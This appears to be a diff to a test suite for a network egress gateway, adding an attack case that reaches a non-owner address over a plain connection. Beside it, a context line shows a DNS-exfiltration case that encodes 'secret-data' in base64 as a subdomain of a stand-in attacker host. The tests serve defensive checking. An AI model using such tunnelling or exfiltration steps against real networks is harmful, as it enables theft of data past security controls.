@@ -72,6 +72,12 @@ def addresses() -> Iterator[Attack]:
         steps=tunnelled("to-ten.example.org:443", "to-ten.example.org"),
     )
     yield Attack(
+        name="the private way to an address that isn't the owner's, plain",
+        wall=ADDRESSES,
+        tenant="builder",
+        steps=plain("to-ten.example.org"),
+    )
+    yield Attack(
         name="data in names that the gateway would look up",
         wall=SAME_NAME,
         steps=tunnelled(OK_443, "c2VjcmV0LWRhdGE.evil.example.net"),
